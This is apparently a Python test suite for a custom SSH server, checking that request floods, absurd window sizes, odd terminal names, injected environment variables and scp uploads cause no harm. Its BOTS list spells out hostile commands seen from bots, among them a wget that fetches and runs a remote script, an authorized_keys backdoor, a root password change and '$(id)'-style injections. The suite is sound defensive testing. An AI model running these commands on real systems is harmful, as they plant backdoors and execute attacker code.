"""Requests that no client needs, in excessive numbers."""

import itertools
import pathlib
import re
import time

import wire
from cost import Meter, memory
from session_processes import SANITIZED
from polite import polite_visit
from processes import cpu, eventually
from wire import authenticated, end_of, is_closed

MANY = 20000
SIZES = [0, 1, 32767, 32768, 65535, 2**31, 2**32 - 1]
ADDRESSES = ("127.0.0.1", 25, "127.0.0.1", 1)

OPENS = {
    "session": (),
    "direct-tcpip": ADDRESSES,
    "forwarded-tcpip": ADDRESSES,
    "x11": ADDRESSES[:2],
    "auth-agent@openssh.com": (),
    "direct-streamlocal@openssh.com": ("/run/x", "", 0),
    "\x1b[31m" * 1000: (),
}


def sockets(pid):
    found = []
    for path in pathlib.Path(f"/proc/{pid}/fd").iterdir():
        if path.readlink().name.startswith("socket:"):
            found.append(path.name)
    return sorted(found)


def refusals(server, link):
    """How many requests of LINK the server has refused."""
    return int(server.logs(
        rf"disconnected peer=127\.0\.0\.1:{link.port} .*refusals=(\d+)")[1])


def test_repeated_channel_requests_are_refused_then_disconnected(host):
    server = host()
    for kind, words in OPENS.items():
        link = authenticated(server)
        meter = Meter(server, link)
        before = sockets(meter.pid)
        assert link.open() is not None
        link.send_message(wire.CHANNEL_OPEN, kind, 1, 1 << 20, 1 << 15, *words)
        assert link.receive(wire.OPEN_FAILURE), kind
        assert sockets(meter.pid) == before, kind
        for i in range(MANY):
            if not link.send_message(wire.CHANNEL_OPEN, kind, i, 1 << 20,
                                     1 << 15, *words):
                break
        assert not link.receive(wire.OPEN_CONFIRMATION), kind
        assert is_closed(link), kind
        assert end_of(server, link)[0] == "refusals", kind
        assert refusals(server, link) < MANY // 10, kind


FORWARDS = {
    "tcpip-forward": ("", 0),
    "cancel-tcpip-forward": ("", 0),
}


def test_repeated_forward_requests_are_refused_then_disconnected(host):
    server = host()
    for kind, words in FORWARDS.items():
        link = authenticated(server)
        for _ in range(MANY):
            if not link.send_message(wire.GLOBAL_REQUEST, kind, True, *words):
                break
        assert not link.receive(wire.REQUEST_SUCCESS), kind
        assert is_closed(link), kind
        assert end_of(server, link)[0] == "refusals", kind
        assert refusals(server, link) < MANY // 10, kind


# Requests on a channel that count as refused: what is behind the name.
COUNTED = {
    "exec": ("text",),
    "shell": (),
    "subsystem": ("evil",),
    "x11-req": (False, "MIT-MAGIC-COOKIE-1", "00", 0),
    "pty-req": ("xterm", 80, 24, 0, 0, ""),
    "env": ("LD_PRELOAD", "/evil.so"),
}


def test_repeated_refused_requests_are_disconnected(host):
    """A client requests a second pty, command and so on without end."""
    server = host()
    for kind, words in COUNTED.items():
        link = authenticated(server)
        channel = link.open()
        for _ in range(MANY):
            if not link.request(channel, kind, *words):
                break
        assert is_closed(link), kind
        assert end_of(server, link)[0] == "refusals", kind
        assert refusals(server, link) < MANY // 10, kind


# What is merely answered, for real clients say such things.
STORM = [(wire.GLOBAL_REQUEST, "streamlocal-forward@openssh.com", True, "/x"),
         (wire.GLOBAL_REQUEST, "\x1b" * 100, True),
         (wire.GLOBAL_REQUEST, "keepalive@openssh.com", True),
         (wire.CHANNEL_REQUEST, 2**32 - 1, "exec", True, "x"),
         (wire.IGNORE, "x" * 100)]


# No session begins in these tests, however long they take.
NO_GRACE = "--grace-time", "10m"


def test_burst_of_harmless_requests_costs_little(host):
    server = host(*NO_GRACE)
    link = authenticated(server)
    meter = Meter(server, link)
    begin = time.monotonic()
    storm = [*STORM, (wire.CHANNEL_REQUEST, link.open(), "winadj", True)]
    for i in range(MANY):
        assert link.send_message(*storm[i % len(storm)])
        if i % 1000 == 0:
            meter.read()
        if i == MANY // 2:
            polite_visit(server)
    assert meter.stays_below(1024)
    # A second, a tenth of what followed, and what was under way.
    assert cpu(meter.pid) < 2.2 + (time.monotonic() - begin) / 10
    link.close()


def test_opened_and_closed_channels_leave_nothing(host):
    server = host(*NO_GRACE)
    link = authenticated(server)
    meter = Meter(server, link)
    for _ in range(300):
        link.send_message(wire.CLOSE, link.open())
        assert link.receive(wire.CLOSE)
    assert meter.stays_below(1024)
    link.close()


def quit(server, link, channel):
    """Quit the renderer, and check that it still worked."""
    before = server.log.count("renderer-exited peer=127.0.0.1")
    link.send_message(wire.DATA, channel, "q")
    assert link.receive(wire.CLOSE)
    assert eventually(lambda: server.log.count(
        "renderer-exited peer=127.0.0.1") == before + 1)
    assert re.findall(r"renderer-exited peer=127.* exit=(\d+)", server.log)[-1] == "0"
    link.send_message(wire.CLOSE, channel)


def renderer(server):
    """The newest renderer."""
    return max(server.processes("resume-ui"))


def test_absurd_sizes_at_the_start_do_no_harm(host):
    """Only the extreme sizes; the next test has all of them."""
    server = host()
    link = authenticated(server)
    for columns, rows in itertools.product(SIZES, SIZES):
        if not {columns, rows} & {0, 2**32 - 1}:
            continue
        channel = link.shell(columns, rows)
        quit(server, link, channel)
    link.close()


def test_absurd_sizes_later_do_no_harm(host):
    server = host("--max-resizes", "100")
    link = authenticated(server)
    channel = link.shell()
    pid = renderer(server)
    for columns, rows in itertools.product(SIZES, SIZES):
        link.request(channel, "window-change", columns, rows, columns, rows)
        time.sleep(0.02)
    assert SANITIZED or memory(pid) < 16 * 1024
    print(memory(pid), "kB")
    quit(server, link, channel)
    link.close()


TERMS = ["", "x" * 100000, "../../etc/passwd", "xterm\x1b[31m", "%s%n",
         "xterm\0evil"]


def test_odd_terminal_names_do_no_harm(host):
    server = host()
    link = authenticated(server)
    for term in TERMS:
        channel = link.open()
        link.request(channel, "pty-req", term, 80, 24, 0, 0, "\0" * 100000)
        link.request(channel, "shell")
        assert link.receive(wire.DATA)
        link.send_message(wire.DATA, channel, "q")
        assert link.receive(wire.CLOSE)
        link.send_message(wire.CLOSE, channel)
    assert not re.search("evil|passwd|%s|xxx", server.log)
    link.close()


COMMANDS = ["x" * 200000, "text\0; id", "\x1b[31m" * 100, "", "\n" * 4000,
            "text " * 800]


def test_odd_commands_get_an_answer(host):
    """Every command, however long, gets text or a message, and one line in the
    log."""
    server = host()
    link = authenticated(server)
    for command in COMMANDS:
        channel = link.open()
        link.request(channel, "exec", command, reply=True)
        assert link.receive(wire.CHANNEL_SUCCESS, wire.CHANNEL_FAILURE)\
            .startswith(bytes([wire.CHANNEL_SUCCESS]))
        assert link.receive(wire.CLOSE)
        link.send_message(wire.CLOSE, channel)
    assert all(" " <= c <= "~" or c == "\n" for c in server.log)
    assert max(map(len, server.log.splitlines())) < 1000
    link.close()


def test_command_of_a_megabyte_ends_the_connection(host):
    """No packet is that long."""
    server = host()
    link = authenticated(server)
    link.request(link.open(), "exec", "x" * (1 << 20))
    assert is_closed(link)
    assert end_of(server, link)[0] == "protocol-error"


ENVIRONMENT = ["LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "TERMINFO", "BASH_ENV",
               "IFS", "HOME", "TERMCAP", "NCURSES_ASSUMED_COLORS", "LANG",
               "LC_ALL", "SSH_ORIGINAL_COMMAND", "LANG\0X", "", "A=B"]


def test_client_cannot_set_the_environment(host):
    """Thirty-two variables are accepted, and few of them are passed on."""
    server = host()
    link = authenticated(server)
    channel = link.open()
    for name in ENVIRONMENT:
        link.request(channel, "env", name, "/tmp/evil.so")
    link.request(channel, "env", "LC_CTYPE", "x" * 100000)
    link.request(channel, "pty-req", "xterm", 80, 24, 0, 0, "")
    link.request(channel, "shell")
    assert link.receive(wire.DATA)
    path = pathlib.Path(f"/proc/{renderer(server)}/environ")
    assert b"evil" not in path.read_bytes()
    assert len(path.read_bytes()) < 1000
    quit(server, link, channel)
    link.close()


def run_after(link, *messages, wish):
    """Whether a new channel does WISH after MESSAGES, and is closed then."""
    channel = link.open()
    for kind, *values in messages:
        link.send_message(kind, channel, *values)
    link.request(channel, *wish, reply=True)
    accepted = link.receive(wire.CHANNEL_SUCCESS, wire.CHANNEL_FAILURE)
    late = "pty-req", "xterm", 80, 24, 0, 0, ""
    link.request(channel, *late)
    closed = link.receive(wire.CLOSE)
    # For a channel that is gone, or is going.
    link.send_message(wire.CLOSE, channel)
    for kind, *values in [(wire.DATA, "x" * 100), (wire.EOF,), (wire.CLOSE,),
                          (wire.WINDOW_ADJUST, 1000)] * 10:
        link.send_message(kind, channel, *values)
    return accepted[:1] == bytes([wire.CHANNEL_SUCCESS]) and closed


def test_messages_in_an_odd_order_do_no_harm(host):
    """The end of input before there is a program, a terminal after it has
    begun, and more for channels that are closed."""
    server = host()
    link = authenticated(server)
    meter = Meter(server, link)
    end, empty = (wire.EOF,), (wire.DATA, "")
    for wish in ("exec", "text"), ("shell",), ("subsystem", "sftp"):
        assert run_after(link, *[end] * 20, wish=wish), wish
        assert run_after(link, *[empty] * 20, end, wish=wish), wish
    assert meter.stays_below(1024)
    assert "crashed" not in server.log
    link.close()


# As bots send them, more often than not.
BOTS = ["uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name",
        "/ip cloud print", "nproc", "whoami", "uptime", "lspci | grep VGA",
        "locate D877F783D5D3EF8C", "cat /proc/uptime 2 > /dev/null",
        "echo -e '\\x41' > /tmp/.x; chmod 777 /tmp/.x",
        "cd ~; chattr -ia .ssh; echo key >> .ssh/authorized_keys",
        "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; sh a.sh",
        "export HISTFILE=/dev/null; nproc", "echo root:x|chpasswd|bash",
        "sh", "/bin/busybox X", "$(id)", "`id`", "text; id", "|id"]
# Those that begin with a word of ours, or with what is near to one.
OURS = ["cat /proc/cpuinfo | grep name", "whoami",
        "cat /proc/uptime 2 > /dev/null", "text; id"]
UPLOADS = ["scp -t /tmp/x", "scp -qt /tmp", "scp -r -t -- /tmp"]


def answer(link, command):
    """All output of a command."""
    channel = link.open()
    link.request(channel, "exec", command)
    words = b""
    while message := link.receive(wire.DATA, wire.EXTENDED_DATA, wire.CLOSE,
                                  wire.CHANNEL_REQUEST):
        words += message[:1] + message[5:]
        if message[:1] == bytes([wire.CLOSE]):
            break
    link.send_message(wire.CLOSE, channel)
    return words


def test_bots_get_one_fixed_answer_and_no_shell(host):
    """Every command that begins with an unknown word gets the same bytes. The
    answer to a known word depends on nothing of the machine, since no shell
    runs."""
    server = host()
    link = authenticated(server)
    answers = {command: answer(link, command) for command in BOTS}
    assert all(b"exit-status" in words for words in answers.values())
    others = {command: words for command, words in answers.items()
              if command not in OURS}
    assert len(set(others.values())) == 1, others
    for command in OURS:
        assert answer(link, command) == answers[command]
        for word in b"Linux", b"root", b"uid=", b"processor":
            assert word not in answers[command], command
    assert not pathlib.Path("/tmp/.x").exists()
    link.close()


def test_uploads_create_no_file(host):
    server = host()
    for command in UPLOADS:
        link = authenticated(server)
        channel = link.open()
        link.request(channel, "exec", command)
        for _ in range(3):
            link.send_message(wire.DATA, channel,
                              "C0644 4 resume-sshd-evil\nevil\0")
        assert link.receive(wire.CLOSE)
        link.close()
    assert not list(pathlib.Path("/tmp").glob("resume-sshd-evil*"))
